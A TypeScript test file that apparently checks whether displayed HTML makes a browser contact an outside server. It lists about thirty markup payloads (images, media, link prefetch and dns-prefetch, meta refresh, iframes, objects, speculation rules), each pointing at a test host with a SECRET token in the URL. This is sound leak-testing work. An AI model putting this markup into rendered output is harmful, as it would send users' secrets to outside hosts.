import type { Payload } from '../payload.ts';
import { act, asDocument, html, type HostileMarkup } from './shownMarkup.ts';

const frameset: HostileMarkup['markup'] = ({ http }) =>
	`<frameset cols="*"><frame src="${http}?SECRET"></frameset>`;

const guess = {
	control: { kind: 'none', why: 'The browsers of the tests are started so that they make no guesses ahead.' }
} as const;

/** What a browser would fetch for markup that is shown. */
export const outputLoading: readonly Payload[] = [
	html('img', 'img', ({ http }) => `<img src="${http}?SECRET">`),
	html('img-srcset', 'img srcset', ({ http }) => `<img srcset="${http}?SECRET 1x, ${http}b?SECRET 2x">`),
	html('img-own-server', 'img', ({ http }) => `<img src="icon.svg?SECRET"><img src="${http}?SECRET">`),
	html('picture', 'picture', ({ http }) => `<picture><source srcset="${http}?SECRET"><img></picture>`),
	html('video', 'video', ({ http }) => `<video src="${http}?SECRET" autoplay muted></video>`),
	html('poster', 'video poster', ({ http }) => `<video poster="${http}?SECRET"></video>`),
	html('audio', 'audio', ({ http }) => `<audio src="${http}?SECRET" preload="auto"></audio>`),
	html('source', 'source', ({ http }) => `<video autoplay muted><source src="${http}?SECRET"></video>`),
	html(
		'track',
		'track',
		({ http }) =>
			`<video crossorigin autoplay muted src="data:video/mp4,x"><track default kind="captions" src="${http}x.vtt?SECRET"></video>`
	),
	html('stylesheet', 'link stylesheet', ({ http }) => `<link rel="stylesheet" href="${http}x.css?SECRET">`),
	html('prefetch', 'link prefetch', ({ http }) => `<link rel="prefetch" href="${http}?SECRET">`),
	html('preload', 'link preload', ({ http }) => `<link rel="preload" as="image" href="${http}?SECRET">`),
	html(
		'preload-imagesrcset',
		'link preload',
		({ http }) => `<link rel="preload" as="image" imagesrcset="${http}?SECRET 1x">`
	),
	html('preconnect', 'link preconnect', ({ http }) => `<link rel="preconnect" href="${http}">`, guess),
	html(
		'dns-prefetch',
		'link dns-prefetch',
		({ host }) => `<link rel="dns-prefetch" href="//SECRET.${host}">`,
		guess
	),
	html(
		'modulepreload',
		'link modulepreload',
		({ http }) => `<link rel="modulepreload" href="${http}x.js?SECRET">`
	),
	html(
		'manifest',
		'link manifest',
		({ http }) => `<link rel="manifest" href="${http}x.json?SECRET" crossorigin>`,
		{
			control: { kind: 'none', why: 'A browser without a window asks for no manifest.' }
		}
	),
	html('icon', 'link icon', ({ http }) => `<link rel="icon" href="${http}x.svg?SECRET">`, {
		control: { kind: 'none', why: 'A browser without a window asks for no icon.' }
	}),
	html(
		'speculation',
		'speculation rules',
		({ http }) =>
			`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${http}?SECRET"],"eagerness":"immediate"}]}</script>`,
		guess
	),
	html(
		'meta-refresh',
		'meta refresh',
		({ http }) => `<meta http-equiv="refresh" content="0; url=${http}?SECRET">`
	),
	html('base', 'base', ({ http }) => `<base href="${http}"><img src="x?SECRET">`),
	html('iframe', 'iframe', ({ http }) => `<iframe src="${http}?SECRET"></iframe>`),
	html('srcdoc', 'iframe srcdoc', (at) => `<iframe srcdoc="<script>${act(at)}</script>"></iframe>`),
	html('frameset', 'frame', frameset, { control: asDocument(frameset) }),
	html('object', 'object', ({ http }) => `<object data="${http}x.html?SECRET"></object>`),
	html('embed', 'embed', ({ http }) => `<embed src="${http}x.html?SECRET" type="text/html">`),
	html('portal', 'portal', ({ http }) => `<portal src="${http}?SECRET"></portal>`, {
		control: { kind: 'none', why: 'No browser of today knows portals.' }
	}),
	html('fencedframe', 'fencedframe', ({ http }) => `<fencedframe src="${http}?SECRET"></fencedframe>`, {
		control: { kind: 'none', why: 'Fenced frames load what a script configured, which markup cannot.' }
	}),
	html(
		'table-background',
		'background attribute',
		({ http }) => `<table background="${http}?SECRET"><td>x</table>`
	),
	html('input-image', 'input image', ({ http }) => `<input type="image" src="${http}?SECRET">`)
];
